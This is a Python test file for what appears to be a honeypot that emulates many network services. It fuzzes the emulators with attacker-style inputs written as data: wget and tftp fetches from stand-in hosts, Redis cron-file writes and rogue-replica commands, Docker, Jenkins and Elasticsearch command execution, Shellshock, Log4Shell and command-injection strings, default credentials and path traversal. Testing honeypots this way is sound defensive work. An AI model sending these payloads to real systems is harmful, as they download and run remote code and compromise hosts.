"""What holds for every room, whatever it pretends to be: nothing that a peer sends is a fault of ours, or costs much.

A new room is tested here as soon as it has its row in ROOMS; at all of its stages as soon as `OPENINGS` says how one
gets there.
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from eudaemon.protocols import ROOMS, load
from eudaemon.protocols._base import Ended, HalfClosed
from eudaemon.protocols._front import Front
from eudaemon.protocols.git.repository import NAMES as REPOSITORIES
from eudaemon.protocols.git.repository import repository_of
from eudaemon.protocols.kubelet.node import node_of
from eudaemon.protocols.vnc.des import answer
from eudaemon.protocols.vnc.room import password_of
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.outside import Downloaded
from eudaemon.world.seed import Seed
from protocols import mongo_client, mssql_client, mysql_client, postgres_client, rdp_client, smb_client, ssh_client
from protocols.adb_client import CONNECT, frame

HOST = Host.from_seed(Seed(b"test"))
HELD_BYTES_MAX = 512 * 1024


def vnc_login() -> tuple[bytes, ...]:
    """What a client chooses, and what it answers to the challenge where there is one."""
    table = Table(load("vnc")(visit(host=HOST))).open()
    kind = table.say(b"RFB 003.008\n")[1:]
    challenge = table.say(kind)
    return (kind, answer(password_of(HOST), challenge)) if len(challenge) == 16 else (kind,)


POD = node_of(HOST).pods[0]
PLACE = f"{POD.namespace}/{POD.name}/{POD.container}".encode()

REPOSITORY = next(name for name in REPOSITORIES if repository_of(HOST, name)).encode()
# What a client of VNC says: version, choice, answer, shared, then messages.
VNC = (
    b"RFB 003.", b"008\n", *vnc_login(), b"\x01", b"\x02\0\0\x01\0\0", b"\0\x02", b"\x03\0\0\0\0\0\0\x09\0\x09",
    b"\x04\x01\0\0\0\0\0a", b"\x06\0\0\0\0\0\0\x03ab",
)  # fmt: skip
# What leads a room through its stages, in order; each piece ends where a new stage begins.
OPENINGS: dict[str, tuple[bytes, ...]] = {
    "activemq": (
        b"\0\0\0\x0a", b"\x0a" + bytes(9), b"\0\0\0\x1f\x1f" + bytes(9), b"\1\1\0\5a.b.c\1\0\x09http://a/",
        b"\0\0\0\x08\3\0\0\0\1\1\1\x78",
    ),
    "adb": (
        CONNECT, frame(b"OPEN", 1, 0, b"sync:\0"), frame(b"WRTE", 1, 1, b"SEND\x09\0\0\0/data"),
        frame(b"WRTE", 1, 1, b"/f,7DATA\x09\0\0\0abc")[:-2],
        b"bc", frame(b"OPEN", 2, 0, b"shell:\0"),
        frame(b"WRTE", 2, 2, b"wget http://a/b\r"), frame(b"OPEN", 3, 0, b"shell,v2,raw:\0"),
        frame(b"WRTE", 3, 3, b"\0\x09\0\0\0id"),
    ),
    "backdoor": (b"PW", b"D1", b"TID", b"SFT059\0MZ", b"MZ12345"),
    "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
    "cmd": (b"echo a>b& tftp", b" -i 198.51.100.7 GET x\r\n", b"ver\n"),
    "distcc": (
        b"DIST0000", b"0001ARGC00000003", b"ARGV00000002sh", b"ARGV00000002-cARGV00000004id;", b"x", b"DOTI00000009abc",
        b"defghi", b"DIST00000001ARGC00000003ARGV00000002shARGV00000002-cARGV0000000fwget http://a/bDOTI00000000",
    ),
    "dns": (b"\0\x1e\0\x06\x01", b"\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03\0\x0c", b"\0\0\x10"),
    "docker": (
        b"POST /images/create?fromImage=alpine HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
        b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
        b'"Cmd":["sh","-c","wget http://192.0.2.9/x ; id"]}', b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
    "elasticsearch": (
        b"DELETE /_all HTTP/1.1\r\n\r\n", b"GET /_cat/indices HTTP/1.1\r\n\r\n",
        b"POST /_search HTTP/1.1\r\nContent-Length: 69\r\n\r\n", b'{"script_fields":{"a":{"script":"',
        b"'wget http://a/b'.execute().text", b'"}}}',
    ),
    "epmap": (smb_client.BIND_ALIVE[:20], smb_client.BIND_ALIVE[20:], smb_client.request(5, b"")[:20], bytes(4)),
    "front": (b"G", b"ET / HTTP/1.1\r\n"),
    "ftp": (
        b"USER ftp\r\n", b"PASS a\r\n", b"PASV\r\n", b"RNFR /etc\r\n", b"PORT 198,51,100,7,195,80\r\n", b"STOR x\r\n",
    ),
    "git": (
        b"%04xgit-receive-pack /%s\0" % (23 + len(REPOSITORY), REPOSITORY), b"0057" + b"0" * 40,
        b" " + b"1" * 40 + b" a0000", b"PACK\0\0\0\2\0\0", b"\0\1\x33x\x9c",
    ),
    "http": (
        b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
        b"0\r\n", b"\r\n", b"POST /cgi-bin/x HTTP/1.1\r\nContent-Length: 5\r\n\r\n", b"a=$(i",
    ),
    "imap": (
        b"1 CAPABILITY\r\n", b"2 LOGIN {4}\r\n", b"root {4+}\r\nroot\r\n", b"3 APPEND INBOX {5}\r\n", b"abc",
        b"de\r\n",
        b"4 SELECT INBOX\r\n", b"5 FETCH 1:* (FLAGS BODY[])\r\n", b"6 IDLE\r\n",
    ),
    "ipp": (
        b"POST /ipp HTTP/1.1\r\nContent-Type: application/ipp\r\nContent-Length: 66\r\n\r\n",
        b"\1\1\0\2\0\0\0\1\1\x47\0\1a",
        b"\0\1b\3FoomaticRIPCommandLine: \"", b'wget http://a/b; id"    ',
    ),
    "java": (
        b"JRMI\0\2", b"K", b"\0\1a\0\0", b"\0\0", b"P\xac\xed\0\5\x77\x22" + bytes(19), b"\0\0\0\1" + bytes(11),
    ),
    "jdwp": (
        b"JDWP-Hand", b"shake", b"\0\0\0\x0b\0\0\0\1\0\1", b"\4", b"\0\0\0\x10\0\0\0\2\0\1\x0b\0\0\0\1", b"a",
        b"\0\0\0\x11\0\0\0\3\0\x0f\1\2\2\0\0\0\0", b"\0\0\0\x0b\0\0\0\4\0\1\x09",
    ),
    "jenkins": (
        b"POST /scriptText HTTP/1.1\r\nHost: a\r\nContent-Length: 36\r\n\r\n", b"script='wget",
        b"%20http://a/b'.execute()", b"GET /script HTTP/1.1\r\n\r\n",
        b"POST /cli HTTP/1.1\r\nSession: a\r\nSide: download\r\n\r\n",
    ),
    "kubelet": (
        b"GET /pods HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /run/%s HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\n" % PLACE, b"cmd=id+-un",
        b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
        b"\x82\x8a\0\0\0\0\0", b"wget a/b\r",
    ),
    "ldap": (
        b"\x30\x0c\2\1\1", b"\x60\x07\2\1\3\4\0\x80\0", b"\x30\x84\0\0\0\x1d",
        b"\2\1\2\x63\x18\4\0\x0a\1\2\x0a\1\0\2\1\0", b"\2\1\0\1\1\0\x87\1a\x30\0",
    ),
    "memcached": (
        b"get a b\r\n", b"set a 0 0 5\r\n", b"abc", b"de\r\n", b"\x80\x01\0\x01\x08\0\0\0\0\0\0\x0c" + bytes(12),
        bytes(8) + b"kv", b"vv",
    ),
    "modbus": (b"\0\1\0\0\0\6\1", b"\x10\0\0\0\1", b"\0\1\0\0\0\6\1\3\0\0\0\2"),
    "mongodb": tuple(mongo_client.opening()),
    "mssql": tuple(mssql_client.opening()),
    "mysql": tuple(mysql_client.opening(Table(load("mysql")(visit(host=HOST))).open())),
    "postgres": tuple(postgres_client.opening()),
    "mqtt": (
        b"\x10", b"\x10\0\x04MQTT\x04\x02\0\x1e\0\x04nmap", b"\x82\x06\0\x01\0\x01", b"#\0",
        b"\x33\x7f\0\x01a\0\x07",
    ),
    "pptp": (b"\0\x10\0\1\x1a\x2b\x3c\x4d\0\5", b"\0\0abcd"),
    "printer": (
        b"\x1b%-12345X@PJL ", b"INFO ID\r\n", b'@PJL FSDOWNLOAD FORMAT:BINARY SIZE=9 NAME="0:/a"\r\nabc', b"defghi",
        b"@PJL ENTER LANGUAGE=PCL\r\n", b"\x1bE\x1b%-12",
    ),
    "rocketmq": (
        b"\0\0\0\x20\0\0", b'\0\x0b{"code":26}', b"x" * 9, b"x" * 8, b"\0\0\0\x37\0\0\0\x0b", b'{"code":25}',
        b"rocketmqHome=", b";wget http://a/b   #\nabcdefg",
    ),
    "rdp": (
        rdp_client.request(b"mstshash=a", 3)[:9], rdp_client.request(b"mstshash=a", 3)[9:],
        rdp_client.connect("rdpdr", "MS_T120"), rdp_client.ERECT, rdp_client.ATTACH, rdp_client.join(1004),
        rdp_client.send(1003, rdp_client.info("", "a", "b")), b"\4\4\0", b"\x13", rdp_client.send(1005, b"abc"),
    ),
    "pop3": (
        b"CAPA\r\n", b"USER root\r\n", b"PASS root\r\n", b"LIST\r\n", b"RETR 1\r\n",
    ),
    "redis": (
        b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
        b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
    ),
    "proxy": (b"POST http://a/ HTTP/1.1\r\nContent-Length: 3\r\n\r\n", b"abc", b"GET http://a/ HTTP/1.1\r\n\r\n"),
    "rtsp": (
        b"OPTIONS ", b"* RTSP/1.0\r\n", b"CSeq: 1\r\n\r\n",
        b"SETUP rtsp://admin:admin@a/ RTSP/1.0\r\nTransport: RTP/AVP\r\n", b"Content-Length: 3\r\n\r\nab",
        b"c", b"$\0\0\x08ab",
    ),
    "s7": (b"\3\0\0\x16\x11\xe0\0\0", b"\0\x14\0\xc1\2\1\0\xc2\2\1\2\xc0\1\x0a", b"\3\0\0\x19\2\xf0\x80\x32\1"),
    "sh": (b"id", b";cd /tmp\n", b"wget http://198.51.100.7/x\n", b"echo a > b\n"),
    "sip": (
        b"OPTIONS sip:", b"a SIP/2.0\r\n", b"Via: a\r\n\r\n",
        b"INVITE sip:0044203123456@a SIP/2.0\r\nContent-Length: 3\r\n\r\nab", b"c",
    ),
    "smartinstall": (
        b"\0\0\0\1\0\0\0\1\0\0\0\4\0\0\0\x08", b"\0\0\0\1\0\0\0\0",
        b"\0\0\0\1\0\0\0\1\0\0\0\x08\0\0\0\x09",
    ),
    "smb": (
        smb_client.OPENING1[0][:40], smb_client.OPENING1[0][40:], *smb_client.OPENING1[1:], smb_client.look(),
        smb_client.pulsar(0x23), smb_client.blue(bytes(9000))[0], smb_client.blue(bytes(9000))[1][:60],
        smb_client.blue(bytes(9000))[1][60:], smb_client.negotiate2(0x0210), smb_client.login2(smb_client.hello()),
    ),
    "smtp": (
        b"EHLO a\r\n", b"AUTH LOGIN\r\n", b"YQ==\r\n", b"YQ==\r\n", b"MAIL FROM:<a>\r\n",
        b"RCPT TO:<${run{id}}@b>\r\n",
        b"DATA\r\n", b"Subject: () { :; };wget a/b\r\n\r\n", b"x\r\n.\r\n",
    ),
    "snmp": (
        b"\x30\x29\2\1\1\4", b"\6public\xa1\x1c\2\4\0\0\0\1\2\1\0\2\1\0\x30\x0e\x30\x0c",
        b"\6\x08\x2b\6\1\2\1\1\1\0\5\0",
    ),
    "socks": (b"\4", b"\1\0\x50\0\0\0\1a", b"\0a"),
    "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
    "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
    "tr069": (
        b"POST /UD/act?1 HTTP/1.1\r\nSOAPAction: a#SetNTPServers\r\nContent-Length: 48\r\n\r\n",
        b"<NewNTPServer1>`wget", b" http://a/b`</NewNTPServer1>", b"GET /tr069 HTTP/1.1\r\n\r\n",
    ),
    "upnp": (
        b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: a#AddPortMapping\r\nContent-Length: 56\r\n\r\n",
        b"<NewInternalClient>`wget", b" http://a/b`</NewInternalClient>", b"GET /wanipcn.xml HTTP/1.1\r\n\r\n",
    ),
    "yarn": (
        b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Length: 67\r\n\r\n", b'{"am-container-spec":{"commands":',
        b'{"command":"wget http://a/b;id"}}}', b"GET /ws/v1/cluster/apps HTTP/1.1\r\n\r\n",
    ),
    "vnc": tuple(VNC),
}  # fmt: skip
# Of what a test sends at random, much is what these rooms listen to.
WORDS = [
    b"GET /shell?id HTTP/1.1\r\n\r\n", b"POST / HTTP/1.0\r\nContent-Length: 9\r\n\r\n", b"\r\n", b"\n", b"\0", b"\xff",
    b"\xff\xfa", b"\xff\xf0", b"Content-Length: 3\r\n", b"Transfer-Encoding: chunked\r\n", b"ff;x\r\n", b"0\r\n\r\n",
    b"root\r\n", b"wget http://192.0.2.9/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
    b"() { :;};", b"exit\n", b"SSH-2.0-x\r\n", b"\0\0\0\x0c", CONNECT,
    frame(b"OPEN", 7, 0, b"shell:wget http://192.0.2.9/x\0"),
    frame(b"OPEN", 8, 0, b"sync:\0"), frame(b"WRTE", 8, 1, b"SEND\x07\0\0\0/data/fDATA\x03\0\0\0abc"),
    b"*2\r\n", b"$3\r\nGET\r\n", b"$", b"config set dir /etc\r\n", b"set x 1\r\n", b"save\r\n", b"module load x\r\n",
    b"slaveof 192.0.2.9 1\r\n", b"system.exec 'wget http://a/b'\r\n", frame(b"CLSE", 8, 1), frame(b"OKAY", 7, 1),
    b"POST /images/create?fromImage=alpine HTTP/1.1\r\nHost: a\r\n\r\n", b"POST /build HTTP/1.1\r\nHost: a\r\n\r\n",
    b"POST /containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 46\r\n\r\n",
    b'{"Image":"alpine","Cmd":["wget","http://a/b"]}', b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE,
    b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
    b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
    b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: a#AddPortMapping\r\nContent-Length: 25\r\n\r\n",
    b"<NewInternalClient>`id`</",
    b"M-SEARCH * HTTP/1.1\r\nST:ssdp:all\r\n\r\n", b"SUBSCRIBE /a HTTP/1.1\r\nCallback: <http://a/>\r\n\r\n",
    b"POST /cli HTTP/1.1\r\nSession: a\r\nSide: upload\r\nContent-Length: 15\r\n\r\n", b"\0\0\0\x0a\0\0\x08who-am-i",
    b"POST /script HTTP/1.1\r\nContent-Length: 33\r\n\r\n", b"script='wget+http://a/b'.execute()",
    b"\0\0\0\x20\x1f" + bytes(10) + b"\1\0\5a.b.c\1\0\x0ahttp://a/b", b"\0\0\0\6\5\0\0\0\1\1",
    b"\x30\x0c\2\1\1\x60\x07\2\1\3\4\0\x80\0", b"\x30\x1d\2\1\2\x63\x18\4\0\x0a\1\2\x0a\1\0\2\1\0\2\1\0\1\1\0",
    b"\x87\1a\x30\0", b"\xa2\3\x87\1a", b"\x30\5\2\1\3\x42\0",
    b"PWD", b"TID", b"SFT053\0abc", b"\x85\x13\x3c\x9e\xa2", b"UPDF\5\0\0\0a\0", b"022\xac\r\n", b"C:\\a\r\n3\r\n",
    b"\0\x0c\0\6\1\0\0\1\0\0\0\0\0\0", b"\0\6\1\0\0\1\0\0\0\0\0\0\1a\0\0\xff\0\1", b"\x1b" + bytes(47),
    b"\x17\0\3\x2a" + bytes(4), b"\x10\x0c\0\4MQTT\4\2\0\0\0\0", b"\x82\6\0\1\0\1#\0", b"\x33\7\0\1a\0\1hi",
    b"\x1b%-12345X", b"@PJL INFO ID\r\n",
    b'@PJL FSDIRLIST NAME="0:/../.." ENTRY=1\r\n', b'@PJL FSDOWNLOAD SIZE=3 NAME="0:/a"\r\nabc',
    b"@PJL ENTER LANGUAGE=PCL\n", b"DESCRIBE rtsp://admin:admin@a/ RTSP/1.0\r\n\r\n",
    b"SETUP / RTSP/1.0\r\nTransport: RTP/AVP\r\n\r\n", b"$\0\0\1a",
    b"OPTIONS sip:a SIP/2.0\r\n\r\n", b"INVITE sip:00442031234567@a SIP/2.0\r\nContent-Length: 2\r\n\r\nab",
    b"REGISTER sip:a SIP/2.0\r\nAuthorization: Digest username=a, nonce=b, response=c\r\n\r\n", b"RFB 003.008\n",
    rdp_client.request(), rdp_client.connect("a"), rdp_client.ATTACH,
    rdp_client.send(1003, rdp_client.info("a", "b", "c")),
    b"\4\4\0\x13", b"\x08\x06\2\x5b\0\x1c",
    b"\1", b"\2", b"\3\0\0\0\0\0\0\x09\0\x09", b"\4\1\0\0\0\0\0a", b"\6\0\0\0\0\0\0\3abc",
    b"EPSV\r\n", b"STOR x\r\n", b"LIST\r\n", b"ABOR\r\n", b"SITE CPFR /etc/passwd\r\n", b"AUTH TLS\r\n",
    b"\0\2a\0octet\0", b"\0\3\0\1abc", b"\0\1/etc/hostname\0octet\0blksize\x008\0",
    b"EHLO a\r\n", b"MAIL FROM:<;wget a/b;>\r\n", b"RCPT TO:<b>\r\n", b"DATA\r\n", b".\r\n", b"\r\n.",
    b"AUTH PLAIN\r\n", b"STARTTLS\r\n", b"STLS\r\n", b"USER root\r\n", b"PASS root\r\n",
    b"1 LOGIN root {4+}\r\nroot\r\n", b"1 STARTTLS\r\n",
    b"1 APPEND INBOX {9}\r\n", b"1 UID FETCH 1:* (BODY[])\r\n", b"RETR 1\r\n", b"AHJvb3QAcm9vdA==\r\n", b"QUIT\r\n",
    smb_client.look(), smb_client.pulsar(0xC8), *smb_client.OPENING1, smb_client.negotiate2(0x0202),
    smb_client.login2(smb_client.hello()), smb_client.smb2(5, bytes(60)), smb_client.BIND_ALIVE, b"\xfeSMB", b"\xffSMB",
    smb_client.request(3, bytes(8)),
    b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
    mongo_client.msg({"find": "c"}, "d"), mongo_client.msg({"insert": 1, "documents": 5, "updates": [7]}),
    b"\x01\x01\0\x1c\0\0\1\0" + "select 1 1".encode("utf-16-le"), b"\0\0\0\x08\x04\xd2\x16\x2f",
    b'PUT /a/b/c HTTP/1.1\r\nContent-Length: 9\r\n\r\n{"a":"b"}',
    b"GET /_plugin/head/../../etc/passwd HTTP/1.1\r\n\r\n",
    b"POST / HTTP/1.1\r\nContent-Type: application/ipp\r\nContent-Length: 9\r\n\r\n\1\1\0\x0b\0\0\0\1\3",
    b"\0\1\0\0\0\5\1\x2b\x0e\1\0", b"\3\0\0\x19\2\xf0\x80\x32\1\0\0\0\0\0\x08\0\0\xf0\0\0\1\0\1\1\xe0",
    b"\0\x0c\0\1\x1a\x2b\x3c\x4d\0\3\0\0", b"\0\0\0\1\0\0\0\1\0\0\0\x08\0\0\0\x0btftp://a/b\0",
    b"0024git-upload-pack /infra\0host=a\0\0", b"0032want " + b"0" * 40 + b"\n", b"0009done\n", b"0000",
    b"\0\7\0\0\0\1\0\0\0\0\0\0\x20CK" + b"A" * 30 + b"\0\0\x21\0\1", b"0 3 http://192.0.2.9/printers/a",
    b"CONNECT a:25 HTTP/1.1\r\nProxy-Authorization: Basic YTpi\r\n\r\n",
    b"\5\2\0\2", b"\1\1a\1b",
    b"\5\1\0\3\1a\0\x50", b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
]  # fmt: skip

FRONT = "front"  # no room of its own: telnet and HTTP on one port
NAMES = (*ROOMS, FRONT)
_UDP = ("catchall", "dns", "ipp", "ldap", "memcached", "netbios", "ntp", "sip", "snmp", "tftp", "upnp")
SERVED = [(name, "tcp") for name in NAMES] + [(name, "udp") for name in _UDP]
names = pytest.mark.parametrize("name", NAMES)
bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def talk(name: str, *, transport: str = "tcp", bytes_max: int = HELD_BYTES_MAX, can_tls: bool = True) -> Table:
    given = visit(host=HOST, transport=transport, purse=Purse(bytes_max), tls=name == "kubelet", can_tls=can_tls)
    if name == FRONT:
        return Table(Front(given, (load("telnet"), load("http")), load("catchall"))).open()
    return Table(load(name)(given)).open()


def opening(name: str) -> tuple[bytes, ...]:
    return OPENINGS.get(name, ())


def finish(table: Table) -> None:
    """End the session as the driver does; then nothing may be owed."""
    purse = table.room.visit.purse
    assert 0 <= purse.bytes_taken <= purse.bytes_max
    table.end()
    assert 0 <= purse.bytes_taken <= purse.bytes_max
    purse.close()
    assert purse.bytes_taken == 0


def told(table: Table) -> tuple[bytes, list[object], list[object], list[object], bool, str]:
    return table.sent, list(table.facts), list(table.kept), list(table.wishes), table.over, table.fault


# RFC 7685: padded to 512 bytes, as browsers do.
CLIENT_HELLO = bytes.fromhex("1603010200010001fc0303" + "aa" * 32 + "000006c02f009c002f010001cd001501c9") + bytes(457)


TAKES_ANYTHING = {"backdoor", "printer", "redis"}  # for a program, a job, the begin of a request


@pytest.mark.parametrize(
    "name", [name for name, door in ROOMS.items() if not door.enciphers and name not in TAKES_ANYTHING]
)
def test_where_nothing_begins_with_tls_who_does_leaves_nothing_behind(name: str) -> None:
    table = talk(name)
    table.say(CLIENT_HELLO)
    finish(table)
    assert not table.kept


messages = st.lists(st.binary(max_size=40) | st.sampled_from(WORDS), max_size=12)


@pytest.mark.parametrize(("name", "transport"), SERVED)
@bounded
@given(pieces=messages, answers=st.lists(st.sampled_from(["ok", "failed", "partial"]), max_size=3), wait=st.booleans())
def test_whatever_is_sent_is_no_fault_of_ours(
    name: str, transport: str, pieces: list[bytes], answers: list[str], wait: bool
) -> None:
    table = talk(name, transport=transport)
    for piece in pieces:
        table.say(piece)
        if wait:
            table.wait(30)
        if answers and table.wishes and not table.over:
            table.answer(answers.pop(), b"#!/bin/sh\nid\n")
    if transport == "udp":
        assert len(table.sent) <= sum(map(len, pieces))
    finish(table)


@names
@bounded
@given(data=messages.map(b"".join), size=st.integers(1, 9))
@example(data=b"".join(WORDS), size=1)
def test_pieces_make_no_difference(name: str, data: bytes, size: int) -> None:
    # Without TLS: what comes in plain behind a request for it is forgotten, or is TLS.
    whole, pieces = talk(name, can_tls=False), talk(name, can_tls=False)
    whole.say(data)
    pieces.say(data, split=size)
    assert told(whole) == told(pieces)
    whole.wait(30)
    pieces.wait(30)
    finish(whole)
    finish(pieces)
    assert told(whole) == told(pieces)


@names
def test_every_byte_at_every_stage(name: str) -> None:
    for stage in range(len(opening(name)) + 1):
        for value in range(256):
            table = talk(name)
            for piece in opening(name)[:stage]:
                table.say(piece)
            assert not table.over, f"the opening ends nothing: {table.fault}"
            table.say(bytes((value,)))
            table.say(bytes((value, 13, 10)))
            table.wait(30)
            finish(table)


@names
def test_the_end_may_come_at_every_stage(name: str) -> None:
    everything = b"".join(opening(name))
    for end in range(len(everything) + 1):
        for half in (True, False):
            table = talk(name)
            table.say(everything[:end])
            if half:
                table.tell(HalfClosed(table.at_s))
                assert table.over or table.wishes or table.side, "a room that has nothing more to say hangs up"
            table.tell(Ended(table.at_s))
            finish(table)


@names
@pytest.mark.parametrize("filler", [b"a", b"\0", b"\xff", b" ", b"'", b"(", b"%"])
def test_endless_data_without_a_line_end_costs_no_more_than_its_limit(name: str, filler: bytes) -> None:
    for stage in range(len(opening(name)) + 1):
        table = talk(name)
        for piece in opening(name)[:stage]:
            table.say(piece)
        for _ in range(12):
            table.say(filler * 65536)
            assert table.room.visit.purse.bytes_taken <= HELD_BYTES_MAX
            if table.over:
                break
        finish(table)


@names
def test_a_poor_purse_is_the_peers_fault_at_worst(name: str) -> None:
    everything = b"".join(opening(name))
    for bytes_max in (0, 1, 16, 100, 1000):
        table = talk(name, bytes_max=bytes_max)
        table.say(everything)
        table.say(b"x" * 2000)
        finish(table)


@names
def test_an_answer_may_come_to_whoever_asked(name: str) -> None:
    table = talk(name)
    for piece in opening(name):
        table.say(piece)
    table.wait(30)
    while table.wishes:
        wish = table.wishes[0].download
        assert Downloaded(wish.url, "ok").url == wish.url
        table.answer("refused")
    finish(table)


@pytest.mark.parametrize("name", ROOMS)
def test_claims_of_any_first_bytes(name: str) -> None:
    room = load(name)
    for value in range(256):
        for first in (bytes((value,)), bytes((value,)) * 600, b"GET /" + bytes((value,))):
            assert room.claim(first) in (0, 1, 2)
